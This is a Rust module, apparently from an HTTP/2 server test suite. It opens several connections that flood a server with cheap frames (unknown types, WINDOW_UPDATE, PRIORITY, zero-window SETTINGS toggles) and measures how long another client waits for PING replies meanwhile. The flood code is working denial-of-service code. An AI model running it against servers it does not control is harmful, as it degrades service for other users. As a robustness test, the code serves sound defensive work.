//! Floods: connections that send frames which cost their client nothing, as fast as they can, and the longest wait of another
//! client meanwhile.

use std::io::{self, Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

use super::attack::{frame, greeting};

/// Connections of a flood.
const CONNECTIONS: usize = 6;
/// Frames of one write.
const FRAMES: usize = 7_000;
/// Pause between an answer and the next PING.
const PING_EVERY: Duration = Duration::from_millis(20);
/// Longest wait for an answer to a PING.
const PING_PATIENCE: Duration = Duration::from_secs(30);

const SETTINGS: u8 = 4;
const PING: u8 = 6;
const ACK: u8 = 1;

/// The frames of a flood.
#[derive(Clone, Copy, Debug)]
pub enum Flood {
    /// Of an unknown type, without payload.
    Unknown,
    WindowUpdate,
    Priority,
    /// SETTINGS that set INITIAL_WINDOW_SIZE to 0 and back.
    InitialWindow,
}

impl Flood {
    fn frames(self) -> Vec<u8> {
        match self {
            Flood::Unknown => frame(0x42, 0, 0, &[]),
            Flood::WindowUpdate => frame(8, 0, 0, &[0, 0, 0, 1]),
            Flood::Priority => frame(2, 0, 1, &[0, 0, 0, 3, 5]),
            Flood::InitialWindow => {
                let sizes = [[0, 4, 0, 0, 0, 0], [0, 4, 0, 0, 0xff, 0xff]];
                sizes.map(|setting| frame(SETTINGS, 0, 0, &setting)).concat()
            }
        }
    }

    /// Begins to flood a server. It ends when the returned sockets are shut down.
    pub fn begin(self, address: SocketAddr) -> io::Result<Vec<TcpStream>> {
        let frames = self.frames().repeat(FRAMES);
        let connect = |_| {
            let socket = TcpStream::connect(address)?;
            let (mut writes, mut reads) = (socket.try_clone()?, socket.try_clone()?);
            writes.write_all(&greeting())?;
            let frames = frames.clone();
            thread::spawn(move || while writes.write_all(&frames).is_ok() {});
            // A server that cannot send its answers reads nothing more.
            thread::spawn(move || io::copy(&mut reads, &mut io::sink()));
            Ok(socket)
        };
        (0..CONNECTIONS).map(connect).collect()
    }
}

/// Shuts sockets down, which ends the threads that use them.
pub fn end(sockets: &[TcpStream]) {
    // The server may have closed some.
    sockets.iter().for_each(|socket| drop(socket.shutdown(Shutdown::Both)));
}

/// Sends PINGs one after the other for a while. Returns the longest wait for an answer.
pub fn longest_wait(address: SocketAddr, time: Duration) -> io::Result<Duration> {
    let mut socket = TcpStream::connect(address)?;
    socket.set_nodelay(true)?;
    socket.set_read_timeout(Some(PING_PATIENCE))?;
    socket.write_all(&greeting())?;
    let (start, mut longest) = (Instant::now(), Duration::ZERO);
    while start.elapsed() < time {
        let asked = Instant::now();
        socket.write_all(&frame(PING, 0, 0, &[7; 8]))?;
        while read_frame(&mut socket)? != [PING, ACK] {}
        longest = longest.max(asked.elapsed());
        thread::sleep(PING_EVERY);
    }
    Ok(longest)
}

/// Reads a frame. Returns its type and flags.
fn read_frame(socket: &mut TcpStream) -> io::Result<[u8; 2]> {
    let mut head = [0; 9];
    socket.read_exact(&mut head)?;
    let [a, b, c, kind, flags, ..] = head;
    let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
    socket.read_exact(&mut payload)?;
    Ok([kind, flags])
}
